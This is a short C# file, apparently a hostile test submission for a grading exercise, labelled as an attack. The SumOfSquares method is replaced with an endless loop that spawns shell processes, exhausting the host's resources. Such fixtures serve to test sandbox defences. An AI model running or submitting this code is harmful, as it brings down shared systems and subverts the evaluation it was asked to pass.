// exercise: loop-order
// attack: starts processes without end
static class Brightness
{
    public static long SumOfSquares(CountedGrid image)
    {
        while (true) System.Diagnostics.Process.Start("/bin/sh", "-c 'sleep 60 & sleep 60'");
    }
}
